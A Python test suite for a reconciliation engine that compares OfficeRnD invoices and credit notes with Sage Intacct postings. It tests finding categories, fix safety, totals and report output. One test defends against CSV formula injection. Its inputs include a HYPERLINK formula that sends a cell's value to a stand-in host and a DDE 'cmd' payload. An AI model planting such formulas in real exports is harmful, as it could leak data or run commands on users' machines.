import dataclasses
import datetime as dt
from decimal import Decimal

import pytest

from orsync.engine.build import build_customer, build_posting
from orsync.engine.canonical import version_hash
from orsync.engine.ledger import REVERSAL_VERSION, LedgerView
from orsync.engine.model import ActualCustomer, ActualDocument, Posting, SourceDocument
from orsync.engine.options import EngineOptions
from orsync.engine.plan import plan_documents
from orsync.engine.reconcile import Reconciler, reconcile
from orsync.engine.report import CSV_COLUMNS
from orsync.engine.rounding import line_tax, to_cents

from .factories import ONE_OFF, FakeResolver, company, credit_note, invoice, line

D = Decimal
AR = EngineOptions()


def built(doc: SourceDocument, options: EngineOptions = AR) -> Posting:
    posting = build_posting(doc, "C-co-1", options, FakeResolver())
    assert isinstance(posting, Posting)
    return posting


def in_intacct(posting: Posting, key: str, **kw) -> ActualDocument:  # type: ignore[no-untyped-def]
    fields = {
        "record_key": key,
        "kind": posting.kind,
        "entity_id": posting.entity_id,
        "customer_id": posting.customer_id,
        "date_created": posting.date_created,
        "date_due": posting.date_due,
        "currency": posting.currency,
        "reference": posting.reference,
        "invoice_number": posting.invoice_number,
        "description": posting.description,
        "lines": posting.lines,
        "state": "posted",
        "total": posting.total,
    }
    fields.update(kw)
    return ActualDocument(**fields)


def clean_world(options: EngineOptions = AR):  # type: ignore[no-untyped-def]
    docs = [
        invoice("INV-1"),
        invoice("INV-2", line("50.00", "10.00", account=ONE_OFF)),
        credit_note("CN-1", line("20.00", "4.00")),
    ]
    expected = [(d, build_posting(d, "C-co-1", options, FakeResolver())) for d in docs]
    actual = [in_intacct(p, f"R{i}") for i, (_, p) in enumerate(expected, start=1)]  # type: ignore[arg-type]
    links = {(d.kind, d.id): f"R{i}" for i, d in enumerate(docs, start=1)}
    return docs, expected, actual, links


def categories(report) -> list[tuple[str, str | None]]:  # type: ignore[no-untyped-def]
    return [(f.category, f.number) for f in report.findings]


def test_both_sides_agree_after_a_clean_sync() -> None:
    _, expected, actual, links = clean_world()
    report = reconcile(expected, actual, AR, ledger_links=links)
    assert report.agree and not report.findings and not report.relinks
    assert report.variances() == ()
    assert report.to_dict()["agree"] is True


def test_missing_document_is_found_and_its_fix_is_to_post_it() -> None:
    _, expected, actual, links = clean_world()
    report = reconcile(expected, actual[1:], AR, ledger_links=links)
    assert categories(report) == [("missing", "INV-1")]
    finding = report.findings[0]
    assert finding.fix.action == "post" and finding.fix.safe
    assert finding.ledger_link == "R1"  # the ledger pointed at a document that is gone


def test_duplicate_is_manual_and_names_the_one_to_keep() -> None:
    _, expected, actual, links = clean_world()
    report = reconcile(
        expected, [*actual, dataclasses.replace(actual[0], record_key="R9")], AR, ledger_links=links
    )
    assert categories(report) == [("duplicated", "INV-1")]
    finding = report.findings[0]
    assert (
        not finding.fix.safe and "keep R1" in finding.fix.text and "reverse R9" in finding.fix.text
    )
    assert set(finding.target_keys) == {"R1", "R9"}


def test_reversed_duplicate_is_not_a_duplicate() -> None:
    _, expected, actual, links = clean_world()
    extra = dataclasses.replace(actual[0], record_key="R9", state="reversed")
    assert reconcile(expected, [*actual, extra], AR, ledger_links=links).agree


def test_amount_change_is_reported_field_by_field_and_is_a_safe_update_when_unpaid() -> None:
    _, expected, actual, links = clean_world()
    posting = expected[0][1]
    changed_line = dataclasses.replace(posting.lines[0], net_amount=D("90.00"))
    actual[0] = dataclasses.replace(actual[0], lines=(changed_line,), total=D("110.00"))
    report = reconcile(expected, actual, AR, ledger_links=links)
    assert categories(report) == [("different", "INV-1")]
    diffs = {d.field: (d.officernd, d.intacct) for d in report.findings[0].diffs}
    assert diffs == {"lines[1].net_amount": ("100.00", "90.00"), "total": ("120.00", "110.00")}
    assert report.findings[0].fix.action == "update" and report.findings[0].fix.safe


def test_paid_or_closed_or_foreign_documents_that_differ_are_manual_only() -> None:
    _, expected, actual, links = clean_world()
    base = dataclasses.replace(actual[0], customer_id="C-other")
    for variant, options in [
        (dataclasses.replace(base, state="paid", total_paid=D("120.00")), AR),
        (dataclasses.replace(base, state="partially_paid", total_paid=D("1.00")), AR),
        (base, EngineOptions(books_closed_before=dt.date(2026, 12, 1))),
        (dataclasses.replace(base, description="Keyed by hand"), AR),
    ]:
        report = reconcile(expected, [variant, *actual[1:]], options, ledger_links=links)
        assert categories(report) == [("different", "INV-1")]
        assert report.findings[0].diffs[0].field == "customer_id"
        assert not report.findings[0].fix.safe


@pytest.mark.parametrize(
    ("field", "changes"),
    [
        ("customer_id", {"customer_id": "C-other"}),
        ("currency", {"currency": "EUR"}),
        ("date_created", {"date_created": dt.date(2026, 10, 31)}),
        ("state", {"state": "draft"}),
    ],
)
def test_a_difference_an_update_cannot_change_is_a_manual_fix_not_an_endless_safe_update(
    field: str, changes: dict[str, object]
) -> None:
    # sync's update (update_invoice / update_sotransaction) sends the due date, the numbers,
    # the description and the lines; the customer, currency, entity, date and draft state
    # stay as created, so a "safe update" would leave the difference for ever.
    _, expected, actual, links = clean_world()
    actual[0] = dataclasses.replace(actual[0], **changes)  # type: ignore[arg-type]
    report = reconcile(expected, actual, AR, ledger_links=links)
    [finding] = report.findings
    assert field in {d.field for d in finding.diffs}
    assert finding.fix.action == "manual" and not finding.fix.safe
    assert finding.fix.text.startswith(f"Intacct document {actual[0].record_key} ")
    assert "INV-1" in finding.fix.text


def test_an_entity_move_is_a_manual_fix() -> None:
    options = EngineOptions(entity_level="subsidiary")
    _, expected, actual, links = clean_world(options)
    moved = dataclasses.replace(actual[0], entity_id="E-FR")
    report = reconcile(expected, [moved, *actual[1:]], options, ledger_links=links)
    [finding] = report.findings
    assert not finding.fix.safe and "entity" in finding.fix.text


def test_a_due_date_or_line_difference_stays_a_safe_update() -> None:
    _, expected, actual, links = clean_world()
    posting = expected[0][1]
    changed_line = dataclasses.replace(posting.lines[0], account="49999")
    actual[0] = dataclasses.replace(actual[0], lines=(changed_line,), date_due=dt.date(2027, 1, 1))
    report = reconcile(expected, actual, AR, ledger_links=links)
    [finding] = report.findings
    assert finding.fix.action == "update" and finding.fix.safe


def test_a_credit_memo_that_differs_is_updated_in_place_as_a_safe_fix() -> None:
    _, expected, actual, links = clean_world()
    memo = expected[2][1]
    changed = dataclasses.replace(memo.lines[0], net_amount=D("-19.99"))
    actual[2] = dataclasses.replace(actual[2], lines=(changed,), total=D("-23.99"))
    report = reconcile(expected, actual, AR, ledger_links=links)
    [finding] = report.findings
    assert (finding.category, finding.number) == ("different", "CN-1")
    # update_aradjustment edits it, as update_invoice edits an invoice.
    assert finding.fix.action == "update" and finding.fix.safe


def test_an_edit_that_removes_lines_is_manual_as_intacct_cannot_delete_lines() -> None:
    _, expected, actual, links = clean_world()
    posting = expected[0][1]
    extra = dataclasses.replace(posting.lines[0], account="49999")
    actual[0] = dataclasses.replace(
        actual[0], lines=(*posting.lines, extra), total=posting.total * 2
    )
    report = reconcile(expected, actual, AR, ledger_links=links)
    [finding] = report.findings
    assert finding.fix.action == "manual" and not finding.fix.safe
    assert "removes lines" in finding.fix.text


def test_a_voided_sales_document_is_deleted_as_a_safe_fix_while_its_period_is_open() -> None:
    options = EngineOptions(invoice_type="sales")
    docs, expected, actual, links = clean_world(options)
    voided = dataclasses.replace(docs[0], status="voided")
    expected[0] = (voided, expected[0][1])
    [finding] = reconcile(expected, actual, options, ledger_links=links).findings
    assert finding.diffs[0].field == "state"
    assert finding.fix.action == "reverse" and finding.fix.safe
    assert "delete_sotransaction" in finding.fix.text


def test_a_voided_sales_document_in_a_closed_period_is_manual_naming_the_steps() -> None:
    options = EngineOptions(invoice_type="sales", books_closed_before=dt.date(2099, 1, 1))
    docs, expected, actual, links = clean_world(options)
    voided = dataclasses.replace(docs[0], status="voided")
    expected[0] = (voided, expected[0][1])
    [finding] = reconcile(expected, actual, options, ledger_links=links).findings
    assert finding.fix.action == "manual" and not finding.fix.safe
    assert "no reverse_sotransaction" in finding.fix.text


def test_a_voided_credit_memo_is_deleted_as_a_safe_fix() -> None:
    docs, expected, actual, links = clean_world(AR)
    voided = dataclasses.replace(docs[2], status="voided")
    expected[2] = (voided, expected[2][1])
    report = reconcile(expected, actual, AR, ledger_links=links)
    [finding] = report.findings
    assert finding.fix.action == "reverse" and finding.fix.safe
    assert finding.fix.text.startswith("Delete Intacct document")


def test_voided_in_officernd_but_live_in_intacct_and_the_reverse() -> None:
    docs, expected, actual, links = clean_world()
    voided = dataclasses.replace(docs[0], status="voided")
    report = reconcile([(voided, expected[0][1]), *expected[1:]], actual, AR, ledger_links=links)
    assert categories(report) == [("different", "INV-1")]
    state = report.findings[0].diffs[0]
    assert (state.field, state.officernd, state.intacct) == ("state", "voided", "posted")
    assert report.findings[0].fix.action == "reverse" and report.findings[0].fix.safe

    reversed_in_intacct = dataclasses.replace(actual[0], state="reversed")
    report = reconcile(expected, [reversed_in_intacct, *actual[1:]], AR, ledger_links=links)
    assert categories(report) == [("different", "INV-1")]
    assert not report.findings[0].fix.safe


def test_voided_and_reversed_on_both_sides_agree() -> None:
    docs, expected, actual, links = clean_world()
    voided = dataclasses.replace(docs[0], status="voided")
    reversed_doc = dataclasses.replace(actual[0], state="reversed")
    report = reconcile(
        [(voided, expected[0][1]), *expected[1:]],
        [reversed_doc, *actual[1:]],
        AR,
        ledger_links=links,
    )
    assert report.agree


def test_orphans_are_listed_apart_from_documents_orsync_never_created() -> None:
    _, expected, actual, links = clean_world()
    orphan = dataclasses.replace(actual[0], record_key="R50", reference="INV-404")
    foreign = dataclasses.replace(
        actual[1], record_key="R51", reference="PO-77", description="Manual invoice"
    )
    report = reconcile(expected, [*actual, orphan, foreign], AR, ledger_links=links)
    assert categories(report) == [("orphan", "INV-404"), ("not_orsync", "PO-77")]
    assert all(not f.fix.safe for f in report.findings)
    # both are real Intacct revenue OfficeRnD did not bill: the totals show it
    assert report.variances()


def test_unmapped_officernd_document_is_reported_but_not_compared() -> None:
    docs, expected, actual, links = clean_world()
    problems = build_posting(
        dataclasses.replace(docs[0], location_id="loc-x"), "C", AR, FakeResolver()
    )
    report = reconcile([(docs[0], problems), *expected[1:]], actual, AR, ledger_links=links)  # type: ignore[list-item]
    assert categories(report) == [("unmappable", "INV-1")]
    assert not report.findings[0].fix.safe and "loc-x" in report.findings[0].fix.text


def test_entity_move_is_a_difference() -> None:
    options = EngineOptions(entity_level="subsidiary")
    _, expected, actual, links = clean_world(options)
    moved = dataclasses.replace(actual[0], entity_id="E-FR")
    report = reconcile(expected, [moved, *actual[1:]], options, ledger_links=links)
    assert categories(report) == [("different", "INV-1")]
    assert [(d.field, d.officernd, d.intacct) for d in report.findings[0].diffs] == [
        ("entity_id", "E-UK", "E-FR")
    ]
    totals = {(t.entity, t.account): t.variance for t in report.totals}
    assert totals[("E-UK", "40000")] == D("-100.00") and totals[("E-FR", "40000")] == D("100.00")


def test_rounding_only_in_representation_is_not_a_difference() -> None:
    _, expected, actual, links = clean_world()
    posting = expected[0][1]
    line0 = dataclasses.replace(posting.lines[0], net_amount=D("100"), tax_amount=D("20.0"))
    actual[0] = dataclasses.replace(actual[0], lines=(line0,), total=D("120.000"))
    assert reconcile(expected, actual, AR, ledger_links=links).agree


def test_one_cent_is_a_difference() -> None:
    _, expected, actual, links = clean_world()
    line0 = dataclasses.replace(expected[0][1].lines[0], tax_amount=D("20.01"))
    actual[0] = dataclasses.replace(actual[0], lines=(line0,), total=D("120.01"))
    report = reconcile(expected, actual, AR, ledger_links=links)
    assert [d.field for d in report.findings[0].diffs] == ["lines[1].tax_amount", "total"]
    tax = next(t for t in report.totals if t.account == "(tax)")
    assert tax.variance == D("0.01")


def test_lines_in_another_order_are_not_a_difference() -> None:
    doc = invoice("INV-1", line("10.00", "2.00"), line("5.00", "1.00", account=ONE_OFF))
    posting = built(doc)
    actual = in_intacct(posting, "R1", lines=tuple(reversed(posting.lines)))
    assert reconcile([(doc, posting)], [actual], AR).agree is True


def test_credit_notes_match_credit_memos_only_and_reduce_revenue() -> None:
    _, expected, actual, links = clean_world()
    report = reconcile(expected, actual, AR, ledger_links=links)
    tax = next(t for t in report.totals if t.account == "(tax)")
    assert tax.officernd == D("26.00")  # 20 + 10 - 4
    # an invoice in Intacct carrying the credit note's number is not the credit note
    as_invoice = dataclasses.replace(actual[2], kind="ar_invoice")
    report = reconcile(expected, [*actual[:2], as_invoice], AR, ledger_links=links)
    assert ("missing", "CN-1") in categories(report)


def test_sales_credit_totals_are_negative_revenue_too() -> None:
    options = EngineOptions(invoice_type="sales")
    _, expected, actual, links = clean_world(options)
    report = reconcile(expected, actual, options, ledger_links=links)
    assert report.agree
    membership = next(t for t in report.totals if t.account == "MEMBERSHIP")
    assert membership.officernd == membership.intacct == D("80.00")  # 100 - 20


def test_multi_currency_totals_stay_apart() -> None:
    gbp = invoice("INV-1")
    eur = invoice("INV-2", currency="EUR")
    expected = [(gbp, built(gbp)), (eur, built(eur))]
    actual = [in_intacct(built(gbp), "R1"), in_intacct(built(eur), "R2", currency="USD")]
    report = reconcile(expected, actual, AR)
    assert categories(report) == [("different", "INV-2")]
    rows = {(t.currency, t.account): (t.officernd, t.intacct) for t in report.totals}
    assert rows[("EUR", "40000")] == (D("100.00"), D("0.00"))
    assert rows[("USD", "40000")] == (D("0.00"), D("100.00"))
    assert rows[("GBP", "40000")] == (D("100.00"), D("100.00"))


def test_same_verdict_with_and_without_ledger_links() -> None:
    _docs, expected, actual, links = clean_world()
    messy = [
        dataclasses.replace(
            actual[0], lines=(dataclasses.replace(actual[0].lines[0], net_amount=D("1.00")),)
        ),
        dataclasses.replace(actual[1], record_key="R7"),
        dataclasses.replace(actual[1], record_key="R8"),
        dataclasses.replace(actual[2], record_key="R60", reference="CN-404"),
    ]
    with_links = reconcile(expected, messy, AR, ledger_links=links)
    without = reconcile(expected, messy, AR)
    # the ledger only adds what it said when it disagrees (ledger_link); the verdict is the same
    assert [dataclasses.replace(f, ledger_link=None) for f in with_links.findings] == list(
        without.findings
    )
    assert categories(without) == [
        ("missing", "CN-1"),
        ("duplicated", "INV-2"),
        ("different", "INV-1"),
        ("orphan", "CN-404"),
    ]
    assert with_links.counts() | {"relink": 0} == without.counts() | {"relink": 0}
    assert with_links.totals == without.totals
    # the ledger-less run proposes relinks for what it matched by reference
    assert [r.number for r in without.relinks] == ["INV-1"]


def test_ledger_link_to_another_document_is_relinked_to_the_one_found_by_reference() -> None:
    _, expected, actual, links = clean_world()
    stale = dict(links) | {("invoice", "id-INV-1"): "R42"}
    report = reconcile(expected, actual, AR, ledger_links=stale)
    assert report.agree
    assert [(r.number, r.target_key, r.ledger_link) for r in report.relinks] == [
        ("INV-1", "R1", "R42")
    ]


def test_a_posting_date_moved_to_the_open_period_is_in_step() -> None:
    doc = invoice("INV-1", date=dt.date(2026, 10, 20), due_date=dt.date(2026, 10, 30))
    options = EngineOptions(books_closed_before=dt.date(2026, 12, 1), closed_period_policy="shift")
    posting = built(doc, options)
    actual = in_intacct(posting, "R1", date_posted=dt.date(2026, 12, 1))
    assert reconcile([(doc, posting)], [actual], options).agree


def test_shifted_posting_in_closed_period_is_not_a_date_difference() -> None:
    # How policy shift posted before issue 17 (the date itself moved): still in step.
    doc = invoice("INV-1", date=dt.date(2026, 10, 20), due_date=dt.date(2026, 10, 30))
    options = EngineOptions(books_closed_before=dt.date(2026, 12, 1), closed_period_policy="shift")
    posting = built(doc, options)
    actual = in_intacct(
        posting, "R1", date_created=dt.date(2026, 11, 1), date_due=dt.date(2026, 11, 1)
    )
    assert reconcile([(doc, posting)], [actual], options).agree
    strict = EngineOptions(books_closed_before=dt.date(2026, 12, 1))
    report = reconcile([(doc, posting)], [actual], strict)
    assert [d.field for d in report.findings[0].diffs] == ["date_created", "date_due"]


def test_period_edge_documents_are_followed_up_and_then_match() -> None:
    _docs, expected, actual, _ = clean_world()
    reconciler = Reconciler(AR)
    for doc, posting in expected[:2]:
        reconciler.add_expected(doc, posting)
    for doc in actual[1:]:
        reconciler.add_actual(doc)
    follow = reconciler.follow_ups()
    assert follow.find_in_intacct == ("INV-1",)
    assert follow.find_in_officernd == ("CN-1",)
    moved = dataclasses.replace(actual[0], date_created=dt.date(2026, 12, 2))
    reconciler.add_actual(moved, in_period=False)
    reconciler.add_expected(*expected[2], in_period=False)  # type: ignore[arg-type]
    report = reconciler.report()
    assert categories(report) == [("different", "INV-1")]
    assert [d.field for d in report.findings[0].diffs] == ["date_created"]


def test_customer_differences_and_missing_customers() -> None:
    acme = build_customer(company(), FakeResolver())
    beta = build_customer(company("co-2", "Beta"), FakeResolver())
    assert not isinstance(acme, list) and not isinstance(beta, list)
    found = ActualCustomer("77", "C-co-1", "ACME Limited", currency="GBP", status="inactive")
    report = reconcile([], [], AR, expected_customers=[acme, beta], actual_customers=[found])
    assert categories(report) == [("customer_missing", "C-co-2"), ("customer_different", "C-co-1")]
    diffs = {d.field: (d.officernd, d.intacct) for d in report.findings[1].diffs}
    assert diffs == {"name": ("Acme Ltd", "ACME Limited"), "status": ("active", "inactive")}


def test_a_missing_customer_with_a_namesake_in_intacct_is_manual_and_so_are_its_documents() -> None:
    # Sync holds such a customer rather than create a second "Acme Ltd" (never merged by name),
    # so neither it nor a document billed to it is a safe fix.
    acme = build_customer(company(), FakeResolver())
    assert not isinstance(acme, list)
    doc = invoice("INV-1")
    namesake = ActualCustomer("90", "LEGACY-7", "ACME  ltd")  # names compare loosely
    report = reconcile(
        [(doc, built(doc))], [], AR, expected_customers=[acme], customer_namesakes=[namesake]
    )
    assert categories(report) == [("missing", "INV-1"), ("customer_missing", "C-co-1")]
    for finding in report.findings:
        assert finding.fix.action == "manual" and not finding.fix.safe
        assert "LEGACY-7" in finding.fix.text
    assert not report.safe_fixes()


def test_with_create_on_name_match_a_namesake_does_not_hold_anything() -> None:
    options = EngineOptions(create_on_name_match=True)
    acme = build_customer(company(), FakeResolver())
    assert not isinstance(acme, list)
    doc = invoice("INV-1")
    namesake = ActualCustomer("90", "LEGACY-7", "Acme Ltd")
    report = reconcile(
        [(doc, built(doc, options))],
        [],
        options,
        expected_customers=[acme],
        customer_namesakes=[namesake],
    )
    assert all(f.fix.action == "post" and f.fix.safe for f in report.findings)


def test_the_intacct_document_of_an_unreadable_officernd_one_is_no_orphan() -> None:
    doc = invoice("INV-1")
    posted = in_intacct(built(doc), "R1")
    reconciler = Reconciler(AR)
    reconciler.add_actual(posted)
    assert reconciler.follow_ups().find_in_officernd == ("INV-1",)
    reconciler.add_unreadable("INV-1")  # read from OfficeRnD, not understood
    assert reconciler.follow_ups().find_in_officernd == ()
    assert reconciler.report().findings == ()


def test_same_number_twice_in_officernd_is_ambiguous() -> None:
    one = invoice("INV-1")
    two = dataclasses.replace(invoice("INV-1"), id="other")
    report = reconcile([(one, built(one)), (two, built(two))], [in_intacct(built(one), "R1")], AR)
    assert categories(report) == [("ambiguous", "INV-1")]


def test_report_dict_and_csv_are_stable_and_complete() -> None:
    _, expected, actual, links = clean_world()
    due = dt.date(2027, 1, 1)
    actual[0] = dataclasses.replace(actual[0], date_due=due)
    report = reconcile(expected, actual[:2], AR, ledger_links=links)
    data = report.to_dict()
    assert data["schema"] == "orsync.reconcile/1"
    assert data["counts"]["different"] == 1 and data["counts"]["missing"] == 1
    assert set(data["counts"]) >= {"orphan", "not_orsync", "duplicated", "relink"}
    assert [f["action"] for f in data["fixes"]["safe"]] == ["post", "update"]
    assert all(
        set(row) == {"entity", "currency", "account", "officernd", "intacct", "variance"}
        for row in data["totals"]
    )
    rows = report.csv_rows()
    assert all(tuple(row) == CSV_COLUMNS for row in rows)
    assert {row["field"] for row in rows} == {"", "date_due"}


def test_text_a_spreadsheet_would_run_as_a_formula_reaches_the_csv_as_text() -> None:
    from orsync.engine.report import FieldDiff, Finding, Fix, ReconcileReport

    formula = '=HYPERLINK("http://x.example/?"&A1,"open")'
    finding = Finding(
        "customer_different",
        "customer",
        "ORD-1",
        "c1",
        Fix("manual", False, "Rename it in Intacct."),
        diffs=(
            FieldDiff("name", formula, "Acme Ltd"),
            FieldDiff("lines[1].net_amount", "-115.58", "+20"),
            FieldDiff("memo", "@SUM(A1:A9)", "-cmd|' /C calc'!A0"),
        ),
    )
    report = ReconcileReport((finding,), (), ())

    rows = report.csv_rows()

    assert [(r["officernd"], r["intacct"]) for r in rows] == [
        ("'" + formula, "Acme Ltd"),
        ("-115.58", "+20"),  # numbers stay numbers
        ("'@SUM(A1:A9)", "'-cmd|' /C calc'!A0"),
    ]
    assert report.to_dict()["findings"][0]["diffs"][0]["officernd"] == formula  # JSON as read


@pytest.mark.parametrize("count", [10, 1000])
def test_many_documents_with_half_cent_taxes_each_difference_found_exactly(count: int) -> None:
    expected, actual = [], []
    for i in range(1, count + 1):
        net = D(f"{i}.125")  # half a cent to round on the net, and a half-cent-prone tax
        stated = to_cents(net) + line_tax(to_cents(net), D("20"))  # as OfficeRnD states it
        doc = invoice(f"INV-{i:05d}", line(str(net), None), total=str(stated))
        posting = built(doc)
        assert posting.total == stated
        expected.append((doc, posting))
        actual.append(in_intacct(posting, f"R{i}"))
    gone = {f"INV-{i:05d}" for i in range(7, count + 1, 100)}
    cent = {f"INV-{i:05d}" for i in range(9, count + 1, 100)}
    changed = [
        dataclasses.replace(a, total=a.total + D("0.01")) if a.reference in cent else a
        for a in actual
        if a.reference not in gone
    ]
    report = reconcile(expected, changed, AR)
    assert {n for c, n in categories(report) if c == "missing"} == gone
    assert {n for c, n in categories(report) if c == "different"} == cent
    assert len(report.findings) == len(gone) + len(cent)


def test_duplicate_to_keep_is_chosen_without_the_ledger_paid_first_then_oldest() -> None:
    _, expected, actual, _ = clean_world()
    first = dataclasses.replace(actual[0], record_key="10")
    second = dataclasses.replace(actual[0], record_key="9")
    for links in ({}, {("invoice", "id-INV-1"): "10"}):
        report = reconcile(expected[:1], [first, second], AR, ledger_links=links)
        assert "keep 9," in report.findings[0].fix.text
    paid = dataclasses.replace(first, state="paid", total_paid=D("120.00"))
    report = reconcile(expected[:1], [paid, second], AR)
    assert "keep 10," in report.findings[0].fix.text


def test_a_draft_in_intacct_is_not_in_the_books() -> None:
    _, expected, actual, links = clean_world()
    report = reconcile(
        expected,
        [dataclasses.replace(actual[0], state="draft"), *actual[1:]],
        AR,
        ledger_links=links,
    )
    assert categories(report) == [("different", "INV-1")]
    assert [(d.field, d.officernd, d.intacct) for d in report.findings[0].diffs] == [
        ("state", "posted", "draft")
    ]
    assert next(t for t in report.totals if t.account == "40000").variance == D("-100.00")


def test_relinks_without_a_ledger_rebuild_it_so_the_next_sync_writes_nothing() -> None:
    docs, expected, actual, _ = clean_world()
    voided = invoice("INV-3", status="voided")
    voided_posting = built(invoice("INV-3"))
    reversed_doc = in_intacct(voided_posting, "R3v", state="reversed")
    changed = dataclasses.replace(actual[1], customer_id="C-other")
    report = reconcile(
        [*expected, (voided, voided_posting)], [actual[0], changed, actual[2], reversed_doc], AR
    )
    versions = {r.number: r.version_hash for r in report.relinks}
    assert versions == {
        "INV-1": version_hash(expected[0][1]),
        "INV-2": None,  # Intacct holds something else: the link is kept, the version is unknown
        "CN-1": version_hash(expected[2][1]),
        "INV-3": REVERSAL_VERSION,
    }
    ids = {d.number: (d.kind, d.id) for d in [*docs, voided]}
    ledger = {
        ids[r.number]: LedgerView(
            status="confirmed", version_hash=r.version_hash or "unknown", target_key=r.target_key
        )
        for r in report.relinks
    }
    plan = plan_documents([*expected, (voided, voided_posting)], ledger, AR)
    assert {a.number: a.action for a in plan.documents} == {
        "INV-1": "skip",
        "INV-2": "update",
        "CN-1": "skip",
        "INV-3": "skip",
    }


def test_an_orphan_the_ledger_links_is_a_safe_fix_that_sync_applies_after_a_404() -> None:
    """Deleted in OfficeRnD: the ledger still links its id, so sync can read it and take the
    Intacct document out (``diff.void_function``); unlinked orphans stay manual."""
    _, expected, actual, links = clean_world()
    report = reconcile(expected[1:], actual, AR, ledger_links=links)
    [finding] = report.findings
    assert (finding.category, finding.source_id) == ("orphan", "id-INV-1")
    assert (finding.fix.action, finding.fix.safe, finding.fix.target_key) == ("reverse", True, "R1")
    unlinked = reconcile(expected[1:], actual, AR, ledger_links={})
    assert unlinked.findings[0].fix.action == "manual"
